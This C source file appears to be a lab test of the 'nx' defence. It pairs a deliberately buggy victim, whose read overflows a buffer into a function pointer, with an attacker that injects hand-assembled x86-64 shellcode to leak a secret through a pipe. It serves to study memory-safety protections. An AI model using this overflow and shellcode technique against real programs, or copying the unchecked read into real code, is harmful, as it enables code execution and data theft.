/*
 * attack_nx - against the wall "nx": data does not execute.
 *
 * The victim has a bug: it copies a message into a buffer that is too small, and what lies behind the buffer
 * is a pointer to a function, which it calls next. The attacker sends machine code and the buffer's address
 * (the same in both: one program). The code, once it runs as the victim, writes the secret into a pipe.
 */
#include "message.h"

static unsigned char secret[SECRET] = {1};
static struct {
	unsigned char message[64];
	void (*next)(void);
} desk = {{1}, 0};

static void carry_on(void)
{
}

static void victim(int in)
{
	victim_draw(secret);
	desk.next = carry_on;
	if (read(in, &desk, sizeof desk) > 0) /* the bug: not sizeof desk.message */
		desk.next();
	_exit(0);
}

/* mov $1, %eax; mov $LEAK, %edi; movabs $secret, %rsi; mov $16, %edx; syscall; mov $60, %eax; syscall */
static void attacker(int out)
{
	unsigned char code[72] = {0xb8, 1, 0, 0, 0, 0xbf, LEAK, 0, 0, 0, 0x48, 0xbe};
	static const unsigned char rest[] = {0xba, SECRET, 0, 0, 0, 0x0f, 0x05,
					     0xb8, 60,     0, 0, 0, 0x0f, 0x05};
	uint64_t where = (uintptr_t)secret, target = (uintptr_t)desk.message;

	memcpy(code + 12, &where, 8);
	memcpy(code + 20, rest, sizeof rest);
	memcpy(code + 64, &target, 8);
	_exit(write(out, code, sizeof code) != sizeof code);
}

int main(void)
{
	return attack_by_message(victim, attacker);
}
